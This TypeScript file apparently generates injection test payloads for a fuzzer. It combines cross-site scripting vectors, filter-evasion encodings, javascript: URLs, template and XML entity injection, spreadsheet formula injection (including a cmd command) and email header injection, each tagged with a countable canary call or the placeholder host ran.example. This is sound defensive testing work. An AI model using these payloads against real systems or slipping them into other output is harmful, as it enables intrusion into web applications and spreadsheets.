/**
 * Texts that run, load or insert something where a page takes them for more than text. Each calls
 * `ran(number)`, asks ran.example, or makes an element with the attribute `ran`: all of them can be
 * counted. They are short, since most fields are.
 */

/** Places in a document, and what leaves them. */
const WAYS_OUT = [
  '',
  '">',
  "'>",
  ' >',
  '</title>',
  '</textarea>',
  '</script>',
  '</style>',
  '-->',
  ']]>',
  '</svg>',
  '</select>',
  '</noscript>',
  '</template>',
];

/** Elements that run `call`, or load. The names are those of HTML and SVG. */
const ELEMENTS: readonly ((call: string) => string)[] = [
  (call) => `<script ran>${call}</script>`,
  (call) => `<img ran src=x onerror=${call}>`,
  (call) => `<svg ran onload=${call}>`,
  (call) => `<svg><script ran>${call}</script></svg>`,
  (call) => `<iframe ran srcdoc="<script>top.${call}</script>">`,
  (call) => `<iframe ran src=javascript:top.${call}>`,
  (call) => `<body ran onload=${call}>`,
  (call) => `<details ran open ontoggle=${call}>`,
  (call) => `<input ran autofocus onfocus=${call}>`,
  (call) => `<video ran><source ran onerror=${call}></video>`,
  (call) => `<a ran href=javascript:${call}>x</a>`,
  (call) => `<svg><a ran xlink:href=javascript:${call}><text>x`,
  (call) => `<svg><animate ran onbegin=${call} attributeName=x dur=1s>`,
  (call) => `<object ran data=javascript:${call}></object>`,
  (call) => `<meta ran http-equiv=refresh content="0;url=javascript:${call}">`,
  (call) => `<form ran action=javascript:${call}><input type=submit>`,
  (call) => `<style ran>@import'//ran.example/${call}'</style>`,
  (call) => `<link ran rel=stylesheet href=//ran.example/${call}>`,
  (call) => `<base ran href=//ran.example/${call}>`,
  (call) => `<audio ran src=//ran.example/${call} onerror=${call}>`,
];

/** Spellings that a filter may miss, or that something undoes on the way. */
const SPELLINGS: readonly ((markup: string) => string)[] = [
  (markup) => markup.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (markup) => markup.replaceAll('<', '&amp;lt;').replaceAll('>', '&amp;gt;'),
  (markup) => markup.replaceAll('<', '&#x3c;').replaceAll('>', '&#62'),
  (markup) => encodeURIComponent(markup),
  (markup) => markup.replaceAll('<', '\\u003c').replaceAll('>', '\\x3e'),
  (markup) => markup.replaceAll('<', '＜').replaceAll('>', '＞'),
  (markup) => markup.replaceAll(' ', '/'),
  (markup) => markup.replace(/>$/, '//'),
  (markup) => markup.replace('<', '<<'),
];

/** Without an element of their own: attributes, scripts, addresses, styles, templates, cells. */
const BARE: readonly ((call: string) => string)[] = [
  ...['"', "'", '`', ''].flatMap((quote) => [
    (call: string) => `x${quote} ran autofocus onfocus=${call} x=${quote}`,
    (call: string) => `x${quote} ran style=animation:x onanimationstart=${call} y=${quote}`,
  ]),
  ...["'", '"', '`', "\\'", '\\"', '*/', ')', '\u2028'].flatMap((end) => [
    (call: string) => `${end};${call}//`,
    (call: string) => `${end}-${call}-${end}`,
  ]),
  (call) => `javascript:${call}`,
  (call) => `JaVaScRiPt:${call}`,
  (call) => `javascript://%0a${call}`,
  (call) => `java&NewLine;script:${call}`,
  (call) => `data:text/html,<script>top.${call}</script>`,
  (call) => `vbscript:${call}`,
  (call) => `//ran.example/${call}`,
  (call) => `\\\\ran.example\\${call}`,
  (call) => `http://x@ran.example/${call}`,
  (call) => `url(//ran.example/${call})`,
  (call) => `;background:url(//ran.example/${call})`,
  (call) => `}*{background:url(//ran.example/${call})}`,
  (call) => `\${${call}}`,
  (call) => `{{constructor.constructor('${call}')()}}`,
  (call) => `<%=${call}%>`,
  (call) => `#{${call}}`,
  (call) => `<![CDATA[<script ran>${call}</script>]]>`,
  (call) => `<?xml-stylesheet href="//ran.example/${call}"?>`,
  (call) => `<!ENTITY x SYSTEM "//ran.example/${call}">&x;`,
  (call) => `<foreignObject><script ran>${call}</script>`,
  (call) => `[x](javascript:${call})`,
  (call) => `=HYPERLINK("//ran.example/${call}")`,
  (call) => `+${call}`,
  (call) => `-1+cmd|' /C ${call}'!A0`,
  (call) => `@SUM(${call})`,
  (call) => `'=${call}`,
  (call) => `"=${call}`,
  (call) => `＝${call}`,
  (call) => `x,=${call}`,
  (call) => `x";=${call};"`,
  (call) => `x\n=${call}`,
  (call) => `x\r\nBcc: ran@ran.example\r\n\r\n<script ran>${call}</script>`,
  (call) => `x\t=${call}`,
];

const makers = [
  ...WAYS_OUT.flatMap((out) => ELEMENTS.map((element) => (call: string) => out + element(call))),
  ...SPELLINGS.flatMap((spell) =>
    ELEMENTS.map((element) => (call: string) => spell(element(call))),
  ),
  ...BARE,
];

/** All of them, in an order in which each part of the list has some of every kind. */
export const payloads: readonly string[] = shuffled(
  makers.map((make, number) => make(`${number % 3 === 0 ? 'alert' : 'ran'}(${number})`)),
);

/** By a step that shares no factor with the number, so that each comes once. */
function shuffled(list: readonly string[]): string[] {
  const step = [211, 223, 227].find((prime) => list.length % prime !== 0) ?? 1;
  return list.map((_, place) => list[(place * step) % list.length] ?? '');
}
